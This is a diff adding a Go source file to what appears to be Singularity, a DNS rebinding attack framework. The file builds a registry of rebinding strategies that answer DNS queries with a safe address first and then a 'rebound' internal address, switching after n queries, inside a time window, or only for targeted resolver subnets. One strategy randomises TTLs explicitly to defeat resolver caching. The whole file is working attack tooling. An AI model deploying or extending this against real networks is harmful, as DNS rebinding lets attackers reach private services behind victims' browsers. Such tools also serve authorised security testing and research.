@@ -0,0 +1,392 @@
+package singularity
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"math/rand"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/miekg/dns"
+)
+
+/*** Pluggable Rebind Strategy Registry ***/
+
+// RebindStrategy is a pluggable DNS rebinding strategy. Configure
+// receives the key=value parameters encoded in the DNS query name (see
+// NewDNSQuery), letting the JS client select and tune a strategy
+// without redeploying the server. Answer decides which resource
+// records, if any, to serve for the given session's query.
+type RebindStrategy interface {
+	Name() string
+	Configure(params map[string]string) error
+	Answer(ctx context.Context, session string, q dns.Question) ([]dns.RR, error)
+}
+
+// rebindStrategyFactories holds the registered strategy constructors,
+// keyed by the strategy name used in the DNS query grammar.
+var rebindStrategyFactories = map[string]func() RebindStrategy{}
+
+// RegisterStrategy makes a rebind strategy available under name,
+// typically called from an init() function.
+func RegisterStrategy(name string, factory func() RebindStrategy) {
+	rebindStrategyFactories[name] = factory
+}
+
+// NewRebindStrategy looks up name in the registry and returns a freshly
+// constructed, configured instance.
+func NewRebindStrategy(name string, params map[string]string) (RebindStrategy, error) {
+	factory, ok := rebindStrategyFactories[name]
+	if !ok {
+		return nil, fmt.Errorf("unknown rebind strategy: %v", name)
+	}
+
+	strategy := factory()
+	if err := strategy.Configure(params); err != nil {
+		return nil, err
+	}
+
+	return strategy, nil
+}
+
+// maxStrategyNameSegments bounds how many trailing "-"-joined elements
+// splitStrategyName will try as a strategy name, matching the longest
+// registered name ("after-n-queries", "random-ttl-jitter": 3).
+const maxStrategyNameSegments = 3
+
+// splitStrategyName finds the registered strategy name at the end of
+// elements and returns it along with the remaining, unconsumed
+// elements (the hosts and session portion of a DNS rebinding query).
+//
+// A single trailing element is not enough to find the boundary:
+// strategy names such as "after-n-queries" contain literal "-" and
+// would otherwise be fragmented by a plain split on "-", the same way
+// splitDNSHosts has to scan for the hosts boundary. Instead this tries
+// the longest trailing join first, so a registered multi-segment name
+// is preferred over a shorter, coincidentally-registered suffix of it.
+func splitStrategyName(elements []string) (name string, rest []string, err error) {
+	// At least 2 elements must remain for the hosts portion (which
+	// itself needs >= 2 "-"-separated tokens) plus 1 for the session.
+	n := maxStrategyNameSegments
+	if max := len(elements) - 3; n > max {
+		n = max
+	}
+	if n < 1 {
+		n = 1
+	}
+
+	for ; n >= 1; n-- {
+		candidate := strings.Join(elements[len(elements)-n:], "-")
+		if _, ok := rebindStrategyFactories[candidate]; ok {
+			return candidate, elements[:len(elements)-n], nil
+		}
+	}
+
+	return "", nil, fmt.Errorf("cannot parse strategy in DNS query: %v", strings.Join(elements, "-"))
+}
+
+// dnsClientStateStoreKey is the context.Value key used to thread a
+// DNSClientStateStore through to a RebindStrategy's Answer method.
+type dnsClientStateStoreKey struct{}
+
+// contextWithStore returns a context carrying dcss, for use with
+// RebindStrategy.Answer.
+func contextWithStore(ctx context.Context, dcss *DNSClientStateStore) context.Context {
+	return context.WithValue(ctx, dnsClientStateStoreKey{}, dcss)
+}
+
+// storeFromContext retrieves the DNSClientStateStore placed on ctx by
+// contextWithStore, or nil if there is none.
+func storeFromContext(ctx context.Context) *DNSClientStateStore {
+	dcss, _ := ctx.Value(dnsClientStateStoreKey{}).(*DNSClientStateStore)
+	return dcss
+}
+
+// appConfigKey is the context.Value key used to thread the operator's
+// AppConfig through to a RebindStrategy's Answer method. AppConfig is
+// passed this way, rather than stashed on the shared DNSClientStateStore,
+// because MakeRebindDNSHandler is re-invoked (with a possibly different
+// *AppConfig) on every NewHTTPServer call that mounts the DoH endpoint
+// while DNS queries may already be in flight against the same store.
+type appConfigKey struct{}
+
+// contextWithAppConfig returns a context carrying appConfig, for use
+// with RebindStrategy.Answer.
+func contextWithAppConfig(ctx context.Context, appConfig *AppConfig) context.Context {
+	return context.WithValue(ctx, appConfigKey{}, appConfig)
+}
+
+// appConfigFromContext retrieves the AppConfig placed on ctx by
+// contextWithAppConfig, or nil if there is none.
+func appConfigFromContext(ctx context.Context) *AppConfig {
+	appConfig, _ := ctx.Value(appConfigKey{}).(*AppConfig)
+	return appConfig
+}
+
+// answersToRRs converts a list of rebind answer addresses into
+// resource records, applying the TTL convention used throughout
+// Singularity: a lone, non-CNAME answer gets TTL 0, everything else
+// (a CNAME, or multiple A/AAAA answers) gets TTL 10. Answers whose
+// family does not match qtype are dropped before the TTL is chosen, so
+// a mixed-family session that only has one record left for this qtype
+// still gets TTL 0, producing an empty NOERROR rather than the
+// wrong-family address when nothing is left at all.
+func answersToRRs(qname string, qtype uint16, answers []string) ([]dns.RR, error) {
+	var matched []string
+	for _, addr := range answers {
+		if addrMatchesQtype(addr, qtype) {
+			matched = append(matched, addr)
+		}
+	}
+
+	ttl := 10
+	if len(matched) == 1 && matched[0] != "localhost" {
+		ttl = 0
+	}
+
+	var rrs []dns.RR
+	for _, addr := range matched {
+		line, ok := dnsAnswerRR(qname, qtype, addr, ttl)
+		if !ok {
+			continue
+		}
+
+		rr, err := dns.NewRR(line)
+		if err != nil {
+			return nil, err
+		}
+		rrs = append(rrs, rr)
+	}
+
+	return rrs, nil
+}
+
+// legacyRebindStrategy adapts the original func(session, dcss, q)
+// []string strategy functions to the RebindStrategy interface, so the
+// strategies Singularity already shipped keep working unchanged
+// through the new registry.
+type legacyRebindStrategy struct {
+	name string
+	fn   func(session string, dcss *DNSClientStateStore, q dns.Question) []string
+}
+
+func (s *legacyRebindStrategy) Name() string { return s.name }
+
+func (s *legacyRebindStrategy) Configure(params map[string]string) error { return nil }
+
+func (s *legacyRebindStrategy) Answer(ctx context.Context, session string, q dns.Question) ([]dns.RR, error) {
+	dcss := storeFromContext(ctx)
+	if dcss == nil {
+		return nil, errors.New("no DNSClientStateStore in context")
+	}
+
+	return answersToRRs(q.Name, q.Qtype, s.fn(session, dcss, q))
+}
+
+func init() {
+	RegisterStrategy("fromqueryroundrobin", func() RebindStrategy {
+		return &legacyRebindStrategy{name: "fromqueryroundrobin", fn: DNSRebindFromQueryRoundRobin}
+	})
+	RegisterStrategy("fromqueryfirstthensecond", func() RebindStrategy {
+		return &legacyRebindStrategy{name: "fromqueryfirstthensecond", fn: DNSRebindFromQueryFirstThenSecond}
+	})
+	RegisterStrategy("fromqueryrandom", func() RebindStrategy {
+		return &legacyRebindStrategy{name: "fromqueryrandom", fn: DNSRebindFromQueryRandom}
+	})
+	RegisterStrategy("fromquerymultia", func() RebindStrategy {
+		return &legacyRebindStrategy{name: "fromquerymultia", fn: DNSRebindFromQueryMultiA}
+	})
+	RegisterStrategy("fromqueryresolvercount", func() RebindStrategy {
+		return &legacyRebindStrategy{name: "fromqueryresolvercount", fn: DNSRebindFromQueryResolverCount}
+	})
+	RegisterStrategy("fromqueryecsmatch", func() RebindStrategy { return &ecsMatchStrategy{} })
+
+	RegisterStrategy("after-n-queries", func() RebindStrategy { return &afterNQueriesStrategy{} })
+	RegisterStrategy("random-ttl-jitter", func() RebindStrategy { return &randomTTLJitterStrategy{} })
+	RegisterStrategy("time-window", func() RebindStrategy { return &timeWindowStrategy{} })
+}
+
+// afterNQueriesStrategy serves the safe (first) host for a session's
+// first n A/AAAA queries, then switches to the rebound host starting
+// on query n+1. n is set via the "n" strategy parameter, encoded in
+// the query name.
+type afterNQueriesStrategy struct {
+	n int
+}
+
+func (s *afterNQueriesStrategy) Name() string { return "after-n-queries" }
+
+func (s *afterNQueriesStrategy) Configure(params map[string]string) error {
+	n, err := strconv.Atoi(params["n"])
+	if err != nil || n <= 0 {
+		return fmt.Errorf("after-n-queries: invalid or missing \"n\" parameter: %q", params["n"])
+	}
+	s.n = n
+	return nil
+}
+
+func (s *afterNQueriesStrategy) Answer(ctx context.Context, session string, q dns.Question) ([]dns.RR, error) {
+	dcss := storeFromContext(ctx)
+	if dcss == nil {
+		return nil, errors.New("no DNSClientStateStore in context")
+	}
+
+	dcss.RLock()
+	state, ok := dcss.Sessions[session]
+	if !ok {
+		dcss.RUnlock()
+		return nil, fmt.Errorf("unknown session: %v", session)
+	}
+	addr := state.ResponseIPAddr
+	if state.QueryCount > s.n {
+		addr = state.ResponseReboundIPAddr
+	}
+	dcss.RUnlock()
+
+	return answersToRRs(q.Name, q.Qtype, []string{addr})
+}
+
+// randomTTLJitterStrategy serves the safe host once, then the rebound
+// host on every subsequent query, like fromqueryfirstthensecond, but
+// draws each response's TTL uniformly from ["min","max"] (strategy
+// parameters, in seconds) instead of a fixed value, to defeat
+// resolvers that cache or round by exact TTL.
+type randomTTLJitterStrategy struct {
+	min, max int
+}
+
+func (s *randomTTLJitterStrategy) Name() string { return "random-ttl-jitter" }
+
+func (s *randomTTLJitterStrategy) Configure(params map[string]string) error {
+	minTTL, err := strconv.Atoi(params["min"])
+	if err != nil || minTTL < 0 {
+		return fmt.Errorf("random-ttl-jitter: invalid or missing \"min\" parameter: %q", params["min"])
+	}
+
+	maxTTL, err := strconv.Atoi(params["max"])
+	if err != nil || maxTTL < minTTL {
+		return fmt.Errorf("random-ttl-jitter: invalid or missing \"max\" parameter: %q", params["max"])
+	}
+
+	s.min, s.max = minTTL, maxTTL
+	return nil
+}
+
+func (s *randomTTLJitterStrategy) Answer(ctx context.Context, session string, q dns.Question) ([]dns.RR, error) {
+	dcss := storeFromContext(ctx)
+	if dcss == nil {
+		return nil, errors.New("no DNSClientStateStore in context")
+	}
+
+	dcss.RLock()
+	state, ok := dcss.Sessions[session]
+	if !ok {
+		dcss.RUnlock()
+		return nil, fmt.Errorf("unknown session: %v", session)
+	}
+	addr := state.ResponseIPAddr
+	if state.QueryCount > 1 {
+		addr = state.ResponseReboundIPAddr
+	}
+	dcss.RUnlock()
+
+	ttl := s.min + rand.Intn(s.max-s.min+1)
+
+	line, ok := dnsAnswerRR(q.Name, q.Qtype, addr, ttl)
+	if !ok {
+		return nil, nil
+	}
+
+	rr, err := dns.NewRR(line)
+	if err != nil {
+		return nil, err
+	}
+
+	return []dns.RR{rr}, nil
+}
+
+// timeWindowStrategy serves the rebound host only while the time
+// elapsed since the session's first query falls within
+// ["after","before") (strategy parameters, in seconds); outside that
+// window it serves the safe host.
+type timeWindowStrategy struct {
+	after, before time.Duration
+}
+
+func (s *timeWindowStrategy) Name() string { return "time-window" }
+
+func (s *timeWindowStrategy) Configure(params map[string]string) error {
+	afterSec, err := strconv.Atoi(params["after"])
+	if err != nil || afterSec < 0 {
+		return fmt.Errorf("time-window: invalid or missing \"after\" parameter: %q", params["after"])
+	}
+
+	beforeSec, err := strconv.Atoi(params["before"])
+	if err != nil || beforeSec <= afterSec {
+		return fmt.Errorf("time-window: invalid or missing \"before\" parameter: %q", params["before"])
+	}
+
+	s.after = time.Duration(afterSec) * time.Second
+	s.before = time.Duration(beforeSec) * time.Second
+	return nil
+}
+
+func (s *timeWindowStrategy) Answer(ctx context.Context, session string, q dns.Question) ([]dns.RR, error) {
+	dcss := storeFromContext(ctx)
+	if dcss == nil {
+		return nil, errors.New("no DNSClientStateStore in context")
+	}
+
+	dcss.RLock()
+	state, ok := dcss.Sessions[session]
+	if !ok {
+		dcss.RUnlock()
+		return nil, fmt.Errorf("unknown session: %v", session)
+	}
+	addr := state.ResponseIPAddr
+	elapsed := state.CurrentQueryTime.Sub(state.FirstQueryTime)
+	if elapsed >= s.after && elapsed < s.before {
+		addr = state.ResponseReboundIPAddr
+	}
+	dcss.RUnlock()
+
+	return answersToRRs(q.Name, q.Qtype, []string{addr})
+}
+
+// ecsMatchStrategy only serves the rebound host when the client's
+// EDNS0 Client Subnet (RFC 7871) falls inside one of the operator's
+// AppConfig.ECSAllowedCIDRs entries, letting the rebind be targeted at
+// a specific recursive resolver population instead of every caller.
+type ecsMatchStrategy struct{}
+
+func (s *ecsMatchStrategy) Name() string { return "fromqueryecsmatch" }
+
+func (s *ecsMatchStrategy) Configure(params map[string]string) error { return nil }
+
+func (s *ecsMatchStrategy) Answer(ctx context.Context, session string, q dns.Question) ([]dns.RR, error) {
+	dcss := storeFromContext(ctx)
+	if dcss == nil {
+		return nil, errors.New("no DNSClientStateStore in context")
+	}
+
+	var allowedCIDRs []string
+	if appConfig := appConfigFromContext(ctx); appConfig != nil {
+		allowedCIDRs = appConfig.ECSAllowedCIDRs
+	}
+
+	dcss.RLock()
+	state, ok := dcss.Sessions[session]
+	if !ok {
+		dcss.RUnlock()
+		return nil, fmt.Errorf("unknown session: %v", session)
+	}
+	addr := state.ResponseIPAddr
+	if !state.DNSCacheFlush && ecsMatchesAllowlist(state.ECSSubnet, allowedCIDRs) {
+		addr = state.ResponseReboundIPAddr
+	}
+	dcss.RUnlock()
+
+	return answersToRRs(q.Name, q.Qtype, []string{addr})
+}